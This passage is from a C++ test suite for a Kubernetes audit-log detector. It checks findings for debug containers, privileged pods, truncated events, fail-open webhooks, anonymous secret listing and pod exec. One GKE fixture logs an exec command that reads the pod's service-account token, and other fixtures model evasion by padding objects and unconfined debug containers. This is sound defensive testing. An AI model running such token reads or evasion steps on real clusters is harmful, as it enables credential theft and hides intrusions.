  eph.uri = "/api/v1/namespaces/shop/pods/web-7d4b9c-x2k8p/ephemeralcontainers";
  eph.user = "bob@example.com";
  eph.resource = "pods";
  eph.subresource = "ephemeralcontainers";
  eph.ns = "shop";
  eph.name = "web-7d4b9c-x2k8p";
  SECTION("patch") {  // kubectl debug
    eph.verb = "patch";
    eph.requestObject = {
        {"spec", {{"ephemeralContainers", withDebug["spec"]["ephemeralContainers"]}}}};
  }
  SECTION("update") {
    eph.verb = "update";
    eph.requestObject = withDebug;
  }
  eph.responseObject = withDebug;

  auto check = [&](const std::vector<Finding>& fs) {
    REQUIRE(rules(fs) == std::vector<std::string>{"ephemeral-container", "privileged-container"});
    for (const auto& f : fs) {
      INFO(f.rule);
      CHECK(f.containers == std::vector<std::string>{"debugger-8hx2q"});
      CHECK(f.kind == "Pod");
      CHECK(f.namespace_ == "shop");
      CHECK(f.name == "web-7d4b9c-x2k8p");
      CHECK(f.subresource == "ephemeralcontainers");
      CHECK(f.user == "bob@example.com");
      CHECK(f.severity == Severity::kHigh);
    }
    CHECK(fs[0].details.at("what") == "debugger-8hx2q (docker.io/nicolaka/netshoot:v0.13)");
    CHECK(fs[1].details.at("what") == "debugger-8hx2q");
  };
  {
    INFO("creation seen");
    Detector d(DetectorOptions{});
    Ev c = createEvent(k, "shop", "web-7d4b9c-x2k8p", "uid-eph", initEscapeSpec(),
                       "system:serviceaccount:kube-system:replicaset-controller");
    CHECK(rule(feed(d, c.str()), "privileged-container") != nullptr);
    check(feed(d, eph.str()));
  }
  {
    INFO("creation not seen");
    Detector d(DetectorOptions{});
    check(feed(d, eph.str()));
  }
}

// A Pod Security check that fails for several containers names them all in one violation: a
// second debugging container with the same setting as an earlier one must still be reported.
TEST_CASE("EphemeralContainersFailingOneCheckTogetherAreEachReported", "[detections]") {
  const PodCarryingKind& k = kPodCarryingKinds[0];
  REQUIRE(k.kind == "Pod");
  DetectorOptions o;
  o.policies = defaultPolicies;
  Detector d(o);
  const json spec = podTemplateSpec("registry.example.com/shop/web:1.4.2");
  Ev c = createEvent(k, "shop", "web-1", "uid-dbg", spec,
                     "system:serviceaccount:kube-system:replicaset-controller");
  CHECK(feed(d, c.str()).empty());
  json pod = podCarryingObject(k, "shop", "web-1", "uid-dbg", spec, true);
  auto debug = [&](const std::string& id, const std::vector<std::string>& names) {
    json containers = json::array();
    for (const auto& n : names) {
      containers.push_back(
          fullContainer(n, "docker.io/nicolaka/netshoot:v0.13",
                        {{"targetContainerName", "app"},
                         {"securityContext", {{"seccompProfile", {{"type", "Unconfined"}}}}}}));
    }
    pod["spec"]["ephemeralContainers"] = containers;
    Ev e;
    e.auditID = id;
    e.verb = "patch";
    e.code = 200;
    e.uri = "/api/v1/namespaces/shop/pods/web-1/ephemeralcontainers";
    e.user = "bob@example.com";
    e.resource = "pods";
    e.subresource = "ephemeralcontainers";
    e.ns = "shop";
    e.name = "web-1";
    e.requestObject = {{"spec", {{"ephemeralContainers", containers}}}};
    e.responseObject = pod;
    return feed(d, e.str());
  };
  auto violationOf = [](const std::vector<Finding>& fs) -> const Finding* {
    return rule(fs, "policy-violation");
  };
  const auto first = debug("a-dbg1", {"dbg1"});
  REQUIRE(violationOf(first) != nullptr);
  CHECK(violationOf(first)->containers == std::vector<std::string>{"dbg1"});
  const auto second = debug("a-dbg2", {"dbg1", "dbg2"});
  CHECK(rule(second, "ephemeral-container") != nullptr);
  REQUIRE(violationOf(second) != nullptr);
  CHECK(violationOf(second)->containers == std::vector<std::string>{"dbg2"});
  REQUIRE(!violationOf(second)->violations.empty());
  CHECK(violationOf(second)->violations[0].find("(dbg2)") != std::string::npos);
}

// A pod padded past the audit backend's event limit reaches the log without its bodies (the
// apiserver truncates the event), and past the webhook's body cap the webhook fails open: the
// write itself is reported, higher when the apiserver says a webhook failed open for it.
TEST_CASE("PodCarryingWritesWithoutBodiesAreReportedAsUnjudged", "[detections]") {
  Detector d(DetectorOptions{});
  Ev t;
  t.auditID = "a-padded";
  t.user = "mallory@example.com";
  t.resource = "deployments";
  t.apiGroup = "apps";
  t.uri = "/apis/apps/v1/namespaces/scratch/deployments";
  t.ns = "scratch";
  t.name = "tunnel";
  t.annotations["audit.k8s.io/truncated"] = "true";
  auto fs = feed(d, t.str());
  REQUIRE(rules(fs) == std::vector<std::string>{"unjudged-object"});
  CHECK(fs[0].severity == Severity::kMedium);
  CHECK(fs[0].kind == "Deployment");
  CHECK(fs[0].namespace_ == "scratch");
  CHECK(fs[0].name == "tunnel");
  CHECK(fs[0].technique == "T1562");
  CHECK(fs[0].summary ==
        "mallory@example.com created Deployment scratch/tunnel but its audit event was "
        "truncated: the object was not judged");

  Ev open = t;
  open.auditID = "a-padded-open";
  open.verb = "update";
  open.code = 200;
  open.annotations["failed-open.validating.webhook.admission.k8s.io/round_0_index_0"] =
      "validate.kube-customs.io";
  fs = feed(d, open.str());
  REQUIRE(rules(fs) == std::vector<std::string>{"unjudged-object"});
  CHECK(fs[0].severity == Severity::kHigh);
  CHECK(fs[0].details.at("failedOpenWebhooks") == "validate.kube-customs.io");
  CHECK(fs[0].summary.find("changed Deployment scratch/tunnel") != std::string::npos);
  CHECK(fs[0].summary.find("failed open") != std::string::npos);

  // Not for reads, deletions, failed writes, other kinds, or subresources.
  Ev get = t;
  get.auditID = "a-get";
  get.verb = "get";
  get.code = 200;
  CHECK(feed(d, get.str()).empty());
  Ev del = t;
  del.auditID = "a-del";
  del.verb = "delete";
  del.code = 200;
  CHECK(feed(d, del.str()).empty());
  Ev failed = t;
  failed.auditID = "a-failed";
  failed.code = 422;
  CHECK(feed(d, failed.str()).empty());
  Ev cm = t;
  cm.auditID = "a-cm";
  cm.resource = "configmaps";
  cm.apiGroup = "";
  CHECK(feed(d, cm.str()).empty());
  Ev scale = t;
  scale.auditID = "a-scale";
  scale.subresource = "scale";
  CHECK(feed(d, scale.str()).empty());

  // Trusted identities are not reported.
  DetectorOptions o;
  o.trustedIdentities["unjudged-object"] = {"mallory@*"};
  Detector trusting(o);
  CHECK(feed(trusting, t.str()).empty());
}

// GKE entries carry no requestURI: an anonymous readiness probe must not be reported as an
// anonymous request allowed, and a session's command, when the entry logs it, is scored.
TEST_CASE("GkeEntriesAreJudgedByTheirRebuiltRequestLine", "[detections][gke]") {
  DetectorOptions o;
  Detector d(o);
  const std::string probe =
      R"({"protoPayload":{"methodName":"io.k8s.get","resourceName":"readyz","authenticationInfo":{"principalEmail":"system:anonymous"},"requestMetadata":{"callerIp":"35.191.0.9"},"status":{}},"insertId":"g-probe","timestamp":"2024-05-01T10:00:05Z","labels":{"authorization.k8s.io/decision":"allow"}})";
  CHECK(feed(d, probe).empty());
  const std::string secrets =
      R"({"protoPayload":{"methodName":"io.k8s.core.v1.secrets.list","resourceName":"core/v1/secrets","authenticationInfo":{"principalEmail":"system:anonymous"},"status":{}},"insertId":"g-secrets","timestamp":"2024-05-01T10:00:06Z","labels":{"authorization.k8s.io/decision":"allow"}})";
  auto fs = feed(d, secrets);
  REQUIRE(rule(fs, "anonymous-request-allowed") != nullptr);
  CHECK(rule(fs, "anonymous-request-allowed")->summary.find("/api/v1/secrets") !=
        std::string::npos);
  const std::string exec =
      R"({"protoPayload":{"methodName":"io.k8s.core.v1.pods.exec.create","resourceName":"core/v1/namespaces/shop/pods/web/exec","authenticationInfo":{"principalEmail":"mallory@example.com"},"request":{"@type":"core.k8s.io/v1.PodExecOptions","container":"app","command":["cat","/var/run/secrets/kubernetes.io/serviceaccount/token"]},"status":{}},"insertId":"g-exec","timestamp":"2024-05-01T10:00:07Z","operation":{"id":"op-9","first":true},"labels":{"authorization.k8s.io/decision":"allow"}})";
  fs = feed(d, exec);
  const Finding* f = rule(fs, "pod-exec");
  REQUIRE(f != nullptr);
  CHECK(f->severity == Severity::kHigh);
  CHECK(f->containers == std::vector<std::string>{"app"});
}

// An exec session into shop/web, started (ResponseStarted, 101).
Ev shopExec(const std::string& id, const std::string& user) {
  Ev e;
  e.auditID = id;
  e.stage = "ResponseStarted";
  e.code = 101;
  e.uri = "/api/v1/namespaces/shop/pods/web/exec?command=ls&container=app";
  e.user = user;
  e.resource = "pods";
  e.subresource = "exec";
  e.ns = "shop";
  e.name = "web";
  e.level = "Metadata";
  return e;
}

// trustedIdentities take the policies' identity globs: `*` any run of characters, `?` one.
TEST_CASE("TrustedIdentitiesUseThePoliciesGlobs", "[detections]") {
  DetectorOptions o;
  o.trustedIdentities["pod-exec"] = {"bot-?@example.com", "system:serviceaccount:ci:*"};
  Detector d(o);
  auto exec = [&](const std::string& id, const std::string& user) {
    return rule(feed(d, shopExec(id, user).str()), "pod-exec") != nullptr;
  };
  CHECK_FALSE(exec("t1", "bot-7@example.com"));
  CHECK(exec("t2", "bot-77@example.com"));
  CHECK_FALSE(exec("t3", "system:serviceaccount:ci:deployer"));
  CHECK(exec("t4", "mallory@example.com"));
}

// Text from events is cut to its caps on character boundaries, not inside a character.
TEST_CASE("FindingTextIsCutOnCharacterBoundaries", "[detections]") {
  Detector d(DetectorOptions{});
  Ev e = shopExec("utf8-1", "mallory@example.com");
  e.userAgent = std::string(255, 'a') + "\xC3\xA9";
  const auto fs = feed(d, e.str());
  const Finding* f = rule(fs, "pod-exec");
  REQUIRE(f != nullptr);
  CHECK(f->userAgent == std::string(255, 'a'));
}

}  // namespace
}  // namespace kc::audit
